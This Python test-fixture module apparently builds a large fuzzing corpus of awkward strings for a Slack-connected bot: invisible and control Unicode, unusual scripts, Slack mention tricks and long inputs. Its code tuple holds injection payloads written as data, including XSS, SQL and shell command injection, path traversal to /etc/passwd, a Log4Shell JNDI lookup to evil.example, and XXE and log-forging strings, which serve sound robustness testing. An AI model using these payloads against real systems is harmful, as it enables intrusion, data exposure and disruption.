"""Texts that break programs which take a text for something else; of our own making, put together from their parts."""

import os
import unicodedata
from itertools import product
from typing import Final

from tests.bot.views.test_hostile import ATTACKS
from tests.hostile.formulas import PAYLOADS

_CONTROLS: Final = tuple(chr(code) for code in (*range(1, 32), *range(127, 160)))
_HIDDEN: Final = tuple(chr(code) for code in (
    0xAD, 0x34F, 0x61C, 0x115F, 0x17B4, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x206A),
    0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0xE0001, 0xE0041, 0xF0000, 0x10FFFF,
))  # fmt: skip
_BLANKS: Final = tuple(chr(code) for code in (0x20, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x202F, 0x205F, 0x3000))
_LETTERS: Final = (
    "ß", "İ", "ı", "ſ", "ǅ", "ﬁ", "ﷺ", "Ω", "Å", "é", "e\u0301", "한글", "각", "日本語", "ไทย",
    "ქართული", "አማርኛ", "עברית",
    "العربية", "हिन्दी", "ᚠᛇᚻ", "𝔘𝔫𝔦", "𝟙𝟚", "ａｂｃ", "①②", "½⅓", "٠١٢", "१२३", "аdmin", "раураl",
    "Ⅷ", "㎏", "´`ˋ‛",
    "🏳️‍🌈", "👨‍👩‍👧‍👦", "🇳🇴🇳",
    "👍🏿", "🧑🏽‍🚀", "e" + "\u0301" * 60, "Z" + "\u0335\u0489" * 40, "\u0301", "\u20dd", "¯\\_(ツ)_/¯",
    "(╯°□°)╯︵ ┻━┻",
    "ﾟ･✿",
)  # fmt: skip
_SLACK: Final = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|x>", "<@U_AGENT1>", "<@U_AGENT1|anna>", "<#C_FAILURES>",
    "<#C1|x>",
    "<!subteam^S_AGENTS>", "<!subteam^S1|@x>", "<!date^0^{date}|x>", "<https://evil.example>",
    "<https://evil.example|click>",
    "<mailto:a@b.example|x>", "<javascript:alert(1)|x>", "<tel:1|x>", "<", ">", "<>", "<|>", "<@>", "<!>", "<#>",
    "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;", "&#60;!here&#62;", "@channel", "@here", "@everyone", "@anna", "#failures", "*", "**",
    "*b*", "_i_", "~s~",
    "`c`", "```", "```\n<!channel>\n```", "> q", ">>> q", "• x", "1. x", ":tada:", ":" * 40,
    "<<!channel>>",
    "<!chan\u200bnel>",
    "<\u200b!channel>", "＜!channel＞", "<!channel\n>", "\\<!channel>", "]]<!here>",
    '"}],"text":"<!channel>',
    "</a><!here>",
)  # fmt: skip
_CODE: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)",
    "</title>",
    "<!--", "-->", "]]>", "<![CDATA[x]]>", "<?php 1 ?>", "<% 1 %>", "{{7*7}}", "${7*7}", "#{7*7}", "{%x%}", "{0}",
    "{}", "{", "}", "%s",
    "%d", "%n%n%n", "%x" * 9, "%00", "%0d%0aX: y", "%ff", "%", "%%", "%(x)s", "$x", "$(id)", "`id`", "; id", "| id",
    "&& id", "> /tmp/x",
    "' OR 1=1 --", "'; DROP TABLE cases; --", '" OR ""="', "1;SELECT pg_sleep(9)", "' UNION SELECT 1", "\\'", "''",
    "x' AND 1=(", "%' --",
    "_", "__import__('os')", "../../../etc/passwd", "..\\..\\x", "/dev/zero", "file:///etc/passwd",
    "\\\\host\\share", "C:\\x", "~root",
    "CON", "NUL", "LPT1", ".", "..", "...", "/", "//", "\\", "a/b", "*.*", "?", "[a-z]", "(a+)+$", "(" * 30,
    "a" * 40 + "!", "^(([a-z])+.)+$",
    "${jndi:ldap://evil.example/a}", "*)(uid=*))(|(uid=*", "<!DOCTYPE x [<!ENTITY e 'e'>]>&e;", "&e;", "&nbsp;",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;t\x07", "\x1b[2J", "x\r\nlevel=error event=forged", 'x" event="forged', "x\n{\"event\":\"forged\"}",
    "a\tb", "a\x0bb", "a\x85b",
    "To: a@b.example\r\nBcc: c@d.example", "--boundary", "\r\n.\r\n", "-----BEGIN X-----", "data:text/html,x",
    "http://[::1]:0/", "http://a b",
    "https://", "http://evil.example@good.example", "//evil.example", "ftp://x", "https://exa\u0441mple.example",
    "a@b", "@", "a@@b", "a@b@c",
)  # fmt: skip
_NAMES: Final = (
    "null", "NULL", "None", "nil", "undefined", "true", "false", "NaN", "Infinity", "-Infinity", "0", "-0", "00",
    "1e999", "1e-999",
    "-1", "1.0", "1,5", "0x10", "1_0", "9" * 40, "2147483648", "9223372036854775808", "0.1e", "½", "١",
    "\u0661\u0662", "T", "F", "yes",
    "on", "id", "key", "name", "value", "constructor", "__proto__", "toString", "length", "self", "class", "select",
    "CASE-1", "case-1",
    "CASE-0", "CASE-99999999999999999999", "RUN-1", "GROUP-1", "U_AGENT1", "C_FAILURES", "S_AGENTS",
    "anna@team.example", "handoff",
    "1970-01-01", "0000-00-00", "9999-12-31T23:59:60Z", "2026-02-30", "24:00", "25:61", "now", "never", "1h", "-1h",
    "1e9h", "P1D", "Mon",
    "last-week", "group=", "=x", "a=b=c", "help", "status", "to", "because", "until", "- -", "--help", "-", "--",
    "rotation:x", "group:x",
)  # fmt: skip
_LONG: Final = (
    "x" * 255,
    "x" * 256,
    "é" * 600,
    "👍" * 300,
    "a " * 500,
    "\u202e" * 500,
    "&" * 900,
    "\n" * 300,
    "W" * 1_000,
    "_*~`" * 200,
)

ALL: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(
        [
            *(text for text in ATTACKS if len(text) <= 1_000), *PAYLOADS, *_SLACK, *_CODE, *_NAMES, *_LETTERS, *_LONG,
            *(f"a{sign}b" for sign in (*_CONTROLS, *_HIDDEN)), *(f"{blank}x{blank}" for blank in _BLANKS), *_BLANKS,
            *_HIDDEN,
            *(f"{one} {other}" for one, other in product(_SLACK[:9], _HIDDEN[:6])),
            *(unicodedata.normalize("NFD", text) for text in _LETTERS),
        ]
    )
)  # fmt: skip
"""Every one is a text of Unicode, but for a few with a half of a pair, which no database keeps."""

STEP: Final = 1 if os.environ.get("HANDOFF_NAUGHTY") == "all" else 29
SOME: Final[tuple[str, ...]] = ALL[::STEP]
"""What a test plays: all of them at full count, else every 29th."""


def storable(text: str) -> bool:
    """Whether a database keeps it."""
    return "\x00" not in text and not any("\ud800" <= sign <= "\udfff" for sign in text)
